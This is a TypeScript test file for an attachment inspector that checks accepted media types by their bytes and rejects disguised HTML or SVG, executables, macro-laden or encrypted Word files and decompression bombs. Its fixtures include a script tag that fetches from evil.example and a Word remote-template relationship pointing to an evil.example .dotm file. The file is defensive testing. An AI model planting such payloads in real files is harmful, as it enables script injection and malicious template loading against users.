import { describe, expect, test } from 'vitest'
import { maxFileBytes } from '../../../src/attachments/accepted-kinds.ts'
import { inspectFile } from '../../../src/attachments/inspect-file.ts'
import { wavHeader } from '../../../src/attachments/wav.ts'
import { noiseAmr, noiseAmrWb, toneAmr } from './samples/amr-samples.ts'
import { box, makeHeic, makeMovie } from './samples/box-samples.ts'
import { picture } from './samples/picture-samples.ts'
import { makeDocx, makeZip } from './samples/zip-samples.ts'

const found = async (bytes: Uint8Array): Promise<string> => {
  const verdict = await inspectFile(bytes)
  return verdict.ok ? `${verdict.mediaType} ${verdict.kind} .${verdict.extension}` : verdict.why
}

const docx = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const pdf = (body = ''): Buffer => Buffer.from(`%PDF-1.7\n${body}\nxref\ntrailer\nstartxref\n9\n%%EOF\n`)
const mp3Frame = Buffer.concat([Buffer.from([0xff, 0xfb, 0x90, 0x00]), Buffer.alloc(413)])
const adtsFrame = Buffer.concat([Buffer.from([0xff, 0xf1, 0x50, 0x80, 0x02, 0x1f, 0xfc]), Buffer.alloc(9)])
const ebml = (codec: string): Buffer =>
  Buffer.concat([
    Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x87, 0x42, 0x82, 0x84]),
    Buffer.from(`webm\x18\x53\x80\x67\x90${codec}`, 'latin1'),
    Buffer.alloc(64),
  ])
const opusPage = Buffer.concat([
  Buffer.from('OggS\0\x02', 'latin1'),
  Buffer.alloc(20),
  Buffer.from([1, 19]),
  Buffer.from('OpusHead\x01\x01', 'latin1'),
  Buffer.alloc(64),
])

describe('what the bytes are decides, not the name or the claimed type', () => {
  test.each<[string, () => Buffer | Promise<Buffer>, string]>([
    ['a JPEG', () => picture('jpeg'), 'image/jpeg image .jpg'],
    ['a PNG', () => picture('png'), 'image/png image .png'],
    ['a WebP', () => picture('webp'), 'image/webp image .webp'],
    ['a GIF', () => picture('gif'), 'image/gif animation .gif'],
    ['a HEIC', () => makeHeic(), 'image/heic image .heic'],
    ['an AMR voice message', () => toneAmr(), 'audio/amr voice .amr'],
    ['an AMR-WB voice message', () => noiseAmrWb(3), 'audio/amr-wb voice .awb'],
    ['an Ogg Opus voice message', () => opusPage, 'audio/ogg voice .ogg'],
    ['an M4A', () => makeMovie('M4A ', ['soun']), 'audio/mp4 voice .m4a'],
    ['an M4A under the brand of a film', () => makeMovie('mp42', ['soun']), 'audio/mp4 voice .m4a'],
    ['a 3GP recording', () => makeMovie('3gp4', ['soun']), 'audio/3gpp voice .3gp'],
    ['an AAC stream', () => Buffer.concat(Array(4).fill(adtsFrame)), 'audio/aac voice .aac'],
    ['an MP3', () => Buffer.concat([mp3Frame, mp3Frame, mp3Frame]), 'audio/mpeg voice .mp3'],
    ['a WebM recording', () => ebml('A_OPUS'), 'audio/webm voice .weba'],
    ['a WebM film', () => ebml('V_VP9'), 'video/webm video .webm'],
    ['a WAV', () => Buffer.concat([wavHeader(8000, 100), Buffer.alloc(200)]), 'audio/wav voice .wav'],
    ['an MP4', () => makeMovie('isom', ['vide', 'soun']), 'video/mp4 video .mp4'],
    ['a MOV', () => makeMovie('qt  ', ['vide', 'soun']), 'video/quicktime video .mov'],
    ['a PDF', () => pdf(), 'application/pdf document .pdf'],
    ['a Word document', () => makeDocx(), `${docx} document .docx`],
  ])('%s is recognised', async (_, make, expected) => {
    expect(await found(await make())).toBe(expected)
  })
})

describe('what is not of the closed set is refused with its reason', () => {
  const script = '<script>fetch("https://evil.example/")</script>'
  test.each<[string, () => Buffer | Promise<Buffer>, string]>([
    ['nothing', () => Buffer.alloc(0), 'empty'],
    ['one byte more than 20 MiB', () => Buffer.alloc(maxFileBytes + 1), 'too-big'],
    ['a page that calls itself a picture', () => Buffer.from(`<!DOCTYPE html><html>${script}</html>`), 'wrong-kind'],
    ['an SVG', () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`), 'wrong-kind'],
    ['an SVG behind an XML header', () => Buffer.from(`<?xml version="1.0"?><svg>${script}</svg>`), 'wrong-kind'],
    ['a page in UTF-16', () => Buffer.from(`\ufeff<html>${script}</html>`, 'utf16le'), 'wrong-kind'],
    ['a PDF that is a page as well', () => pdf(`<html>${script}</html>`), 'wrong-kind'],
    ['a voice file that is a page as well', () => Buffer.concat([noiseAmr(0), Buffer.from(script)]), 'damaged'],
    ['plain text', () => Buffer.from('Kính gửi Ủy ban nhân dân phường'), 'wrong-kind'],
    ['a program', () => Buffer.concat([Buffer.from('MZ\x90\0'), Buffer.alloc(200)]), 'wrong-kind'],
    ['an ELF program', () => Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(200)]), 'wrong-kind'],
    ['a plain ZIP', () => makeZip([{ name: 'anh.jpg', content: 'x' }]), 'wrong-kind'],
    ['an old Word file', () => Buffer.from('d0cf11e0a1b11ae1'.padEnd(1200, '0'), 'hex'), 'wrong-kind'],
    ['two bytes of MP3 sync before text', () => Buffer.from('\xff\xfbCổng làng', 'latin1'), 'wrong-kind'],
    ['an AVIF', () => box('ftyp', 'avif', Buffer.alloc(4), 'mif1'), 'wrong-kind'],
    ['a film without its index', () => Buffer.concat([box('ftyp', 'isom\0\0\0\0'), box('mdat', 'x')]), 'damaged'],
    ['a film cut short', () => makeMovie('isom', ['vide']).subarray(0, -4), 'damaged'],
    ['a PDF cut short', () => pdf().subarray(0, 20), 'damaged'],
    ['an AMR header alone', () => noiseAmr(0), 'damaged'],
    ['an AMR frame of a type that does not exist', () => Buffer.concat([toneAmr(), Buffer.from([0x5c])]), 'damaged'],
  ])('%s', async (_, make, expected) => {
    expect(await found(await make())).toBe(expected)
  })

  test('a voice message that lost its last bytes on the way is still one', async () => {
    expect(await found(toneAmr().subarray(0, -5))).toBe('audio/amr voice .amr')
  })
})

describe('a Word document must hold no program, no password and no hidden bulk', () => {
  const remote = '<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'
  const zeros = Buffer.alloc(120 * 1024 * 1024)
  test.each<[string, () => Buffer, string]>([
    ['macros', () => makeDocx([{ name: 'word/vbaProject.bin', content: 'x' }]), 'macros'],
    ['a macro-enabled main part', () => makeDocx([], 'ms-word.document.macroEnabled.main+xml'), 'macros'],
    ['ActiveX controls', () => makeDocx([{ name: 'word/activeX/activeX1.bin', content: 'x' }]), 'macros'],
    ['a remote template', () => makeDocx([{ name: 'word/_rels/settings.xml.rels', content: remote }]), 'macros'],
    ['an encrypted entry', () => makeDocx([{ name: 'word/media/a.png', content: 'x', encrypted: true }]), 'locked'],
    [
      'a password',
      () =>
        Buffer.concat([
          Buffer.from('d0cf11e0a1b11ae1'.padEnd(1024, '0'), 'hex'),
          Buffer.from('EncryptedPackage', 'utf16le'),
          Buffer.alloc(512),
        ]),
      'locked',
    ],
    [
      'two entries that unpack to 240 MiB',
      () =>
        makeDocx([
          { name: 'word/media/1.png', content: zeros },
          { name: 'word/media/2.png', content: zeros },
        ]),
      'unpacks-too-big',
    ],
    [
      'the same with a directory that claims one byte each',
      () =>
        makeDocx([
          { name: 'word/media/1.png', content: zeros, claimedSize: 1 },
          { name: 'word/media/2.png', content: zeros, claimedSize: 1 },
        ]),
      'unpacks-too-big',
    ],
    ['an end that is missing', () => makeDocx().subarray(0, -30), 'damaged'],
  ])('%s', async (_, make, expected) => {
    expect(await found(make())).toBe(expected)
  })

  test('an entry whose packed bytes are broken makes the file damaged', async () => {
    const file = makeDocx([{ name: 'word/media/a.png', content: Buffer.from('0123456789'.repeat(50)) }])
    const at = file.indexOf('word/media/a.png') + 'word/media/a.png'.length
    file.fill(0xff, at, at + 6)
    expect(await found(file)).toBe('damaged')
  })
})

test('a thousand files of noise behind every known beginning give a verdict, never an exception', async () => {
  const beginnings = [
    '',
    'PK\x03\x04',
    '\0\0\0\x18ftypisom',
    '%PDF-',
    '#!AMR\n',
    '#!AMR-WB\n',
    '\xff\xd8\xff',
    'GIF89a',
    'ID3\x04',
  ]
  let state = 20_261_122
  const noise = (): number => {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648
    return state >> 16
  }
  for (let round = 0; round < 1000; round += 1) {
    const start = Buffer.from(beginnings[round % beginnings.length] ?? '', 'latin1')
    const verdict = await inspectFile(Buffer.concat([start, Buffer.from(Array.from({ length: 80 }, noise))]))
    expect(typeof verdict.ok).toBe('boolean')
  }
})
